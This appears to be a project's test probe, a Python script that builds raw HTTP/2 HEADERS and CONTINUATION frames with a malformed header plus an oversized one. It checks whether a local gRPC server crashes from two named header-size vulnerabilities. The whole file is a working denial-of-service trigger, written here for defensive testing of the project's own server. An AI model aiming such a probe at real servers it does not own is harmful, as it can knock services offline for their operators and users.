#!/usr/bin/env python3
"""Probe for the gRPC header-size error paths (CVE-2023-1428 / CVE-2023-32731).

Sends, on one raw HTTP/2 connection, a request whose headers carry one of the
headers the advisory names (te: x, :scheme: x, grpclb_client_stats) and then a
header that takes the list past the server's metadata limit, split across
HEADERS + CONTINUATION frames. A vulnerable server aborts. Run by hand against
a test server (docs/security.md, "What remains exposed"):

    tests/e2e/probes/header_size_probe.py PORT te|scheme|lb
    kill -0 $(pidof techmatchd) && echo alive
"""
import socket
import struct
import sys
import time


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def length(n):
    """HPACK integer with a 7-bit prefix, no Huffman."""
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append((n & 127) | 128)
        n >>= 7
    out.append(n)
    return bytes(out)


def literal(name, value):
    name, value = name.encode(), value.encode()
    return b"\x00" + length(len(name)) + name + length(len(value)) + value


def main():
    port, mode = int(sys.argv[1]), sys.argv[2]
    conn = socket.create_connection(("127.0.0.1", port))
    conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    block = b"\x83\x86" + literal(":path", "/techmatch.v1.AccessService/GetCaller") + \
        literal(":authority", "x") + literal("content-type", "application/grpc")
    block += {"te": literal("te", "x"), "scheme": literal(":scheme", "x"),
              "lb": literal("grpclb_client_stats", "x")}[mode]
    block += literal("x-big", "a" * 20000)
    chunks = [block[i:i + 8000] for i in range(0, len(block), 8000)]
    out = frame(1, 1, 1, chunks[0])  # HEADERS, END_STREAM, no END_HEADERS
    for i, chunk in enumerate(chunks[1:]):
        out += frame(9, 4 if i == len(chunks) - 2 else 0, 1, chunk)  # CONTINUATION
    conn.sendall(out)
    time.sleep(1)
    try:
        print("server answered %d bytes" % len(conn.recv(1000)))
    except OSError as e:
        print("connection error:", e)


if __name__ == "__main__":
    main()
